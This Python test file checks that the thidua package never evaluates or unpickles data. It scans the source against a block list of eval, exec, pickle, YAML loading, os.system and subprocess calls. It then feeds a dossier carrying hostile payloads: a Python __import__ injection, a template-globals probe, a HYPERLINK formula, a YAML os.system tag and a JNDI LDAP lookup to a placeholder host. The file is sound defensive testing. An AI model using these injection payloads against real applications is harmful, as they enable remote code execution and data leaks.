"""No code from data: nothing in thidua evaluates, unpickles or unmarshals what comes
from a dossier, a scenario or a plugin's data file, and a hostile string travelling
through loading, checking and exporting stays inert text."""

from __future__ import annotations

import ast
import io
import json
import sys
import uuid
from collections.abc import Iterator
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest

import thidua
from thidua.cli.main import main
from thidua.data import example_dossier_text
from thidua.serialization import dump_dossier, loads_dossier

SRC = Path(thidua.__file__).resolve().parent

# Calls that run code or rebuild objects from bytes, by the name they are called with.
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "_pickle", "marshal", "shelve", "dill",
                     "cloudpickle", "jsonpickle", "yaml", "ruamel", "code", "codeop"}
FORBIDDEN_ATTRIBUTES = {("yaml", "load"), ("yaml", "unsafe_load"), ("yaml", "full_load"),
                        ("os", "system"), ("os", "popen"), ("pickle", "loads"),
                        ("pickle", "load"), ("marshal", "loads"), ("subprocess", "Popen"),
                        ("subprocess", "run"), ("subprocess", "call")}
# Dynamic imports are allowed only where the module name is ours (a constant list) or
# comes from an installed plugin's entry point — never from data. Each site is listed;
# a new one fails this test until a reviewer adds it here.
ALLOWED_DYNAMIC_IMPORTS = {
    ("cli/main.py", "_builtin_commands"),  # COMMAND_GROUPS, a constant tuple
    # the lazy public API of thidua, thidua.export and thidua.testing: module names come
    # from each package's constant table of exports, never from data
    ("_lazy.py", "lazy_exports"),
}


def _python_files() -> list[Path]:
    return sorted(SRC.rglob("*.py"))


def _enclosing_function(tree: ast.AST, target: ast.AST) -> str:
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and any(
                child is target for child in ast.walk(node)):
            return node.name
    return "<module>"


def _violations(path: Path) -> Iterator[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    rel = path.relative_to(SRC).as_posix()
    for node in ast.walk(tree):
        where = f"{rel}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""])
            for name in names:
                if name.split(".")[0] in FORBIDDEN_MODULES:
                    yield f"{where}: imports {name}"
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
                yield f"{where}: calls {func.id}()"
            elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                if (func.value.id, func.attr) in FORBIDDEN_ATTRIBUTES:
                    yield f"{where}: calls {func.value.id}.{func.attr}()"
                if (func.value.id, func.attr) == ("importlib", "import_module"):
                    fn = _enclosing_function(tree, node)
                    if (rel, fn) not in ALLOWED_DYNAMIC_IMPORTS:
                        yield f"{where}: importlib.import_module in {fn} (not allow-listed)"
            elif isinstance(func, ast.Attribute) and func.attr in ("loads", "load") and \
                    isinstance(func.value, ast.Name) and func.value.id in FORBIDDEN_MODULES:
                yield f"{where}: calls {func.value.id}.{func.attr}()"


def test_the_scan_sees_the_whole_package() -> None:
    files = _python_files()
    assert len(files) > 30
    assert SRC / "serialization.py" in files
    assert SRC / "parameters.py" in files


def test_the_scan_would_catch_each_forbidden_construct(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    bad = tmp_path / "bad.py"
    bad.write_text("import pickle\nimport yaml\nimport importlib\n"
                   "eval('1')\nexec('x = 1')\nyaml.load(s)\npickle.loads(b)\n"
                   "importlib.import_module(name)\n", encoding="utf-8")
    monkeypatch.setattr(sys.modules[__name__], "SRC", tmp_path)
    found = list(_violations(bad))
    assert len(found) == 7, found


def test_no_eval_exec_pickle_yaml_or_marshal_in_the_source() -> None:
    found = [v for p in _python_files() for v in _violations(p)]
    assert not found, "code-from-data risk:\n" + "\n".join(found)


# -- a hostile string is inert ---------------------------------------------------------

_WATCH: dict[str, Any] = {"on": False, "marker": "", "events": []}
# (marshal.loads is not watched at run time: importing a module raises it; the source
# scan above forbids marshal in thidua itself)
_RISKY_EVENTS = {"pickle.find_class", "os.system", "subprocess.Popen", "os.exec",
                 "os.posix_spawn", "os.spawn"}


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if not _WATCH["on"]:
        return
    if event in _RISKY_EVENTS:
        _WATCH["events"].append(event)
    elif event in ("compile", "exec") and args:
        source = args[0]
        text = source if isinstance(source, str) else (
            source.decode("utf-8", "replace") if isinstance(source, bytes) else "")
        if _WATCH["marker"] and _WATCH["marker"] in text:
            _WATCH["events"].append(f"{event} of data")


sys.addaudithook(_audit)  # audit hooks cannot be removed: _WATCH keeps it idle


@contextmanager
def _watching(marker: str) -> Iterator[list[str]]:
    _WATCH.update(on=True, marker=marker, events=[])
    try:
        yield _WATCH["events"]
    finally:
        _WATCH.update(on=False, marker="")


def _hostile_dossier(marker: str) -> dict[str, Any]:
    """The bundled example with a hostile string in every free-text field."""
    doc: dict[str, Any] = json.loads(example_dossier_text())
    payloads = [
        f"__import__('pathlib').Path('{marker}').touch()",
        f"{{{{ self.__init__.__globals__ }}}} {marker}",
        f"=HYPERLINK(\"http://x/{marker}\")",
        f"!!python/object/apply:os.system ['touch {marker}']",
        f"${{jndi:ldap://x/{marker}}}",
    ]
    n = 0
    for section in ("units", "movements", "exemplars"):
        for entry in doc.get(section, []):
            entry["name"] = payloads[n % len(payloads)]
            n += 1
    for entry in doc.get("awards", []):
        entry["decision"] = payloads[n % len(payloads)]
        n += 1
    return doc


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(["--no-plugins", *argv])
    return code, out.getvalue(), err.getvalue()


def test_a_hostile_string_is_inert(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = f"PWNED-{uuid.uuid4().hex}"
    monkeypatch.chdir(tmp_path)
    doc = _hostile_dossier(marker)
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    with _watching(marker) as events:
        d = loads_dossier(path.read_text(encoding="utf-8"))
        assert loads_dossier(dump_dossier(d)) == d
        code, out, err = _cli("validate", "--format", "json", str(path))
        assert code == 0, err
        assert json.loads(out)["valid"] is True
        for year in ("2023", "2024"):
            code, out, err = _cli("check", str(path), "--year", year, "--format", "json")
            assert code in (0, 1), err
        for to in ("json", "csv"):
            target = tmp_path / f"registrations.{to}"
            code, _, err = _cli("export", str(path), "--what", "registrations", "--to", to,
                                "--year", "2024", "-o", str(target))
            assert code == 0, err
            written = target.read_text(encoding="utf-8-sig")
            assert marker in written  # kept as text (neutralised for CSV, not run)
    assert not events, events
    assert not list(tmp_path.rglob(f"*{marker}*")), "a payload created a file"
    assert not (Path.cwd() / marker).exists()
    names = [e.name for e in d.exemplars]
    assert any(n.startswith("__import__(") for n in names)  # stored verbatim
